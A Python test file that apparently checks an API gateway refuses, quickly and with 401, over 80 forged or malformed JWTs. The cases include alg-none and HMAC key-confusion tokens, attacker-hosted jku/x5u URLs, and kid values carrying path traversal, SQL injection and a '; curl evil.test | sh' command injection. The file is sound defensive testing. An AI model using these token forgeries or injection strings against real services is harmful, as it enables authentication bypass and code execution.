"""Tokens that must not be accepted: every known attack on JWTs and every malformed one is 401, and none is slow."""

import json
import time
from collections.abc import AsyncGenerator, Callable
from contextlib import AsyncExitStack
from typing import Any, Final

import httpx2
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.ec import SECP384R1, generate_private_key

from callsheet.settings.load import Settings
from gateway.identity.issuers import Algorithm
from tests.gateway.identity.test_issuers import settings_for
from tests.support.gateway.given import PATIENCE_SECONDS, SECRET, expect_problem, new_id, serving, sign_token
from tests.support.identity.tokens import AUDIENCE, CREATE, ISSUER, FileIssuer, encode_bytes, encode_part
from tests.support.waiting import eventually

WORKSPACE: Final = new_id()
LONG_AGO: Final = 1_000_000_000
FAR_AHEAD: Final = 4_102_444_800  # the year 2100: however long the tests before this one take
SLOW_SECONDS: Final = 1.0

Create = Callable[[FileIssuer], str]
BAD: Final[dict[str, Create]] = {}  # more are added below


def format_token(issuer: FileIssuer, header: object, claims: object = None, signature: str = "") -> str:
    return f"{encode_part(header)}.{encode_part(issuer.claims() if claims is None else claims)}.{signature}"


def replace_text(text: str, claims: dict[str, Any]) -> str:
    """Return claims as JSON with a text in place of the number 77777."""
    return json.dumps(claims).replace("77777", text)


def flip(token: str) -> str:
    """Return a token with a changed letter in the middle of its signature."""
    at = (token.rindex(".") + len(token)) // 2
    return f"{token[:at]}{'A' if token[at] != 'A' else 'B'}{token[at + 1 :]}"


def swap_claims(issuer: FileIssuer) -> str:
    header, _, signature = issuer.sign().split(".")
    return f"{header}.{encode_part(issuer.claims(sub='usr_eve'))}.{signature}"


def sign_p384(issuer: FileIssuer) -> str:
    signed = f"{encode_part({'alg': 'ES256', 'kid': 'ES256'})}.{encode_part(issuer.claims())}"
    key = generate_private_key(SECP384R1())
    return f"{signed}.{encode_bytes(jwt.get_algorithm_by_name('ES384').sign(signed.encode(), key))}"


def sign_with_own_key(issuer: FileIssuer) -> str:
    key = CREATE[Algorithm.ES256]()
    public = jwt.get_algorithm_by_name("ES256").to_jwk(key.public_key(), as_dict=True)
    return issuer.sign({"alg": "ES256", "jwk": public}, key=key)


for spelling in ("none", "None", "NONE", "nOnE", ""):
    BAD[f"alg {spelling or 'empty'}"] = lambda issuer, alg=spelling: format_token(issuer, {"alg": alg})
    BAD[f"alg {spelling or 'empty'} with a signature"] = lambda issuer, alg=spelling: format_token(
        issuer, {"alg": alg, "kid": "ES256"}, signature="AAAA"
    )
for algorithm in ("HS256", "HS384", "HS512", "RS384", "RS512", "PS384", "ES384", "ES512", "ES256K", "RSA-OAEP", "dir"):
    BAD[f"alg {algorithm}"] = lambda issuer, alg=algorithm: issuer.sign({"alg": alg, "kid": "ES256"})
for value in (None, 7, ["ES256"], {"alg": "ES256"}, True):
    BAD[f"alg is {value}"] = lambda issuer, alg=value: issuer.sign({"alg": alg, "kid": "ES256"})
for algorithm in Algorithm:
    BAD[f"key confusion: HMAC with the public key of {algorithm}"] = lambda issuer, alg=algorithm: issuer.sign_hmac(
        issuer.read_public_pem(alg), {"alg": "HS256", "kid": alg.value}
    )
    BAD[f"HMAC that is called {algorithm}"] = lambda issuer, alg=algorithm: issuer.sign_hmac(
        issuer.read_public_pem(alg), {"alg": alg.value, "kid": alg.value}
    )
    BAD[f"another key of {algorithm}"] = lambda issuer, alg=algorithm: issuer.sign(algorithm=alg, key=CREATE[alg]())
    BAD[f"the signature of {algorithm} is changed"] = lambda issuer, alg=algorithm: flip(issuer.sign(algorithm=alg))
BAD.update(
    {
        "RS256 with the key of PS256": lambda issuer: issuer.sign(
            {"alg": "RS256", "kid": "PS256"}, algorithm=Algorithm.RS256
        ),
        "PS256 with the key id of RS256": lambda issuer: issuer.sign(
            {"alg": "PS256", "kid": "RS256"}, algorithm=Algorithm.PS256
        ),
        "ES256 with the key id of EdDSA": lambda issuer: issuer.sign({"alg": "ES256", "kid": "EdDSA"}),
        "curve confusion": sign_p384,
        "an ECDSA signature of zeros": lambda issuer: format_token(
            issuer, {"alg": "ES256", "kid": "ES256"}, signature=encode_bytes(bytes(64))
        ),
        "an ECDSA signature of 10 bytes": lambda issuer: format_token(
            issuer, {"alg": "ES256", "kid": "ES256"}, signature=encode_bytes(bytes(10))
        ),
        "an RSA signature of 4 KB": lambda issuer: format_token(
            issuer, {"alg": "RS256", "kid": "RS256"}, signature=encode_bytes(b"\xff" * 4_000)
        ),
        "no signature": lambda issuer: issuer.sign().rpartition(".")[0] + ".",
        "claims of another token": swap_claims,
        "a development token with the wrong secret": lambda _: jwt.encode(
            {"iss": "callsheet-development", "sub": "usr_ada", "exp": FAR_AHEAD}, "x" * 40, "HS256"
        ),
        "a development token that names the issuer": lambda issuer: jwt.encode(
            issuer.claims(), SECRET.reveal(), "HS256", headers={"kid": "ES256"}
        ),
    }
)
for name, key_id in {
    "traversal": "../../../../dev/null",
    "SQL": "x' UNION SELECT 'secret' --",
    "command": "; curl evil.test | sh",
    "NUL": "ES256\0",
    "URL": "https://evil.test/keys.json",
    "long": "k" * 5_000,
    "number": 7,
    "list": ["ES256"],
    "empty": "",
}.items():
    BAD[f"kid {name}"] = lambda issuer, kid=key_id: issuer.sign({"alg": "ES256", "kid": kid})
for name, value in {
    "jwk": {"kty": "oct", "k": "AAAA"},
    "jku": "https://evil.test/keys.json",
    "x5u": "https://evil.test/cert.pem",
    "x5c": ["MIIB"],
    "crit": ["exp"],
    "b64": False,
    "zip": "DEF",
    "typ": "logout+jwt",
}.items():
    BAD[f"header {name}"] = lambda issuer, field=(name, value): issuer.sign_with(**{field[0]: field[1]})
BAD["the key of its own header"] = sign_with_own_key
BAD["header typ is a number"] = lambda issuer: issuer.sign_with(typ=7)
CLAIMS: Final[dict[str, dict[str, object]]] = {
    "no exp": {"exp": None},
    "expired": {"exp": LONG_AGO},
    "exp is 0": {"exp": 0},
    "exp is a text": {"exp": str(FAR_AHEAD)},
    "exp is true": {"exp": True},
    "exp is a list": {"exp": [FAR_AHEAD]},
    "exp is negative": {"exp": -1},
    "exp is huge": {"exp": 10**300},
    "exp has 400 digits": {"exp": 10**400},
    "not yet": {"nbf": FAR_AHEAD},
    "nbf is a text": {"nbf": "soon"},
    "issued in the future": {"iat": FAR_AHEAD},
    "no aud": {"aud": None},
    "another aud": {"aud": "https://other.test"},
    "aud with a slash more": {"aud": f"{AUDIENCE}/"},
    "other auds": {"aud": ["https://other.test", "x"]},
    "no auds": {"aud": []},
    "aud is a number": {"aud": 7},
    "no iss": {"iss": None},
    "another iss": {"iss": "https://evil.test"},
    "iss with a slash more": {"iss": f"{ISSUER}/"},
    "iss is a list": {"iss": [ISSUER]},
    "no sub": {"sub": None},
    "an empty sub": {"sub": ""},
    "sub is a number": {"sub": 7},
    "sub with NUL": {"sub": "a\0b"},
    "sub with a line break": {"sub": "a\nb"},
    "a long sub": {"sub": "a" * 256},
    "no workspace": {"workspace": None},
    "workspace is no id": {"workspace": "ws_nonsense"},
    "workspace is another id": {"workspace": "prj_01h455vb4pex5vsknk084sn02q"},
    "workspace is a list": {"workspace": ["ws"]},
    "scope is a number": {"scope": 7},
    "scope with a number": {"scope": ["runs:read", 7]},
}
for name, changed in CLAIMS.items():
    BAD[name] = lambda issuer, changed=changed: issuer.sign_claims(**changed)
for text in ("NaN", "Infinity", "-Infinity", "1e999", "1" * 5_000):
    BAD[f"exp {text[:10]}"] = lambda issuer, text=text: issuer.sign(
        claims=replace_text(text, issuer.claims(exp=77_777))
    )
BAD.update(
    {
        "exp twice": lambda issuer: issuer.sign(
            claims=replace_text('1, "exp": 99999999999', issuer.claims(exp=77_777))
        ),
        "sub twice": lambda issuer: issuer.sign(claims=json.dumps(issuer.claims())[:-1] + ', "sub": "usr_eve"}'),
        "alg twice": lambda issuer: issuer.sign('{"alg": "none", "alg": "ES256", "kid": "ES256"}'),
        "claims are a list": lambda issuer: issuer.sign(claims=[issuer.claims()]),
        "claims are a text": lambda issuer: issuer.sign(claims='"claims"'),
        "claims are no JSON": lambda issuer: issuer.sign(claims="{"),
        "claims are deep": lambda issuer: issuer.sign(claims="[" * 4_000),
        "claims are deep objects": lambda issuer: issuer.sign(claims='{"a":' * 1_000 + "1" + "}" * 1_000),
        "header is a list": lambda issuer: issuer.sign([{"alg": "ES256"}]),
        "header is empty": lambda issuer: issuer.sign({}),
        "claims are no UTF-8": lambda _: f"{encode_part({'alg': 'ES256'})}.{encode_bytes(b'{}' + bytes([255]))}.AAAA",
        "two parts": lambda issuer: issuer.sign().rpartition(".")[0],
        "four parts": lambda issuer: f"{issuer.sign()}.AAAA",
        "five parts (JWE)": lambda _: f"{encode_part({'alg': 'dir', 'enc': 'A128GCM'})}..AAAA.AAAA.AAAA",
        "one part": lambda _: "abc",
        "dots": lambda _: "..",
        "many dots": lambda _: "." * 5_000,
        "padding": lambda issuer: issuer.sign() + "=",
        "standard base64": lambda issuer: issuer.sign().replace(".", "+.", 1),
        "a space within": lambda issuer: issuer.sign().replace(".", ". ", 1),
        "oversize": lambda issuer: issuer.sign_claims(more="x" * 9_000),
    }
)


@pytest.fixture(scope="module")
def issuer(tmp_path_factory: pytest.TempPathFactory) -> FileIssuer:
    return FileIssuer(tmp_path_factory.mktemp("issuer"), WORKSPACE)


@pytest.fixture(scope="module")
async def client(gateway_database: str, issuer: FileIssuer) -> AsyncGenerator[httpx2.AsyncClient]:
    async with AsyncExitStack() as stack:
        found = await stack.enter_async_context(
            serving(gateway_database, Settings(identity=settings_for(issuer.trust)))
        )
        yield await stack.enter_async_context(httpx2.AsyncClient(base_url=found.url, timeout=PATIENCE_SECONDS))


async def ask(client: httpx2.AsyncClient, token: str) -> httpx2.Response:
    return await client.get("/v1/projects", headers={"authorization": f"Bearer {token}"})


def test_there_are_enough_bad_tokens() -> None:
    assert len(BAD) >= 80


@pytest.mark.parametrize("algorithm", Algorithm)
async def test_a_good_token_is_accepted(client: httpx2.AsyncClient, issuer: FileIssuer, algorithm: Algorithm) -> None:
    assert (await ask(client, issuer.sign(algorithm=algorithm))).status_code == 200
    assert (await ask(client, sign_token(WORKSPACE))).status_code == 200


async def test_every_bad_token_is_refused_with_a_problem_and_none_is_slow(
    client: httpx2.AsyncClient, issuer: FileIssuer
) -> None:
    accepted: list[str] = []
    for name, create in BAD.items():
        token = create(issuer)
        started = time.perf_counter()
        response = await ask(client, token)
        if time.perf_counter() - started > SLOW_SECONDS:
            accepted.append(f"slow: {name}")
        if response.status_code != 401:
            accepted.append(f"{response.status_code}: {name}")
            continue
        expect_problem(response, 401, "unauthenticated")
        assert response.headers["www-authenticate"].startswith("Bearer "), name
    assert accepted == []


async def test_a_key_that_is_withdrawn_from_the_file_is_not_accepted_any_more(
    gateway_database: str, issuer: FileIssuer
) -> None:
    settings = Settings(identity=settings_for(issuer.trust, keys_refresh_seconds=0.05))
    old = issuer.sign()
    async with (
        serving(gateway_database, settings) as found,
        httpx2.AsyncClient(base_url=found.url, timeout=PATIENCE_SECONDS) as other,
    ):
        assert (await ask(other, old)).status_code == 200
        issuer.keys[Algorithm.ES256] = CREATE[Algorithm.ES256]()
        issuer.publish()

        async def is_refused() -> bool:
            return (await ask(other, old)).status_code == 401

        await eventually(is_refused, what="the withdrawn key is forgotten")
        assert (await ask(other, issuer.sign())).status_code == 200
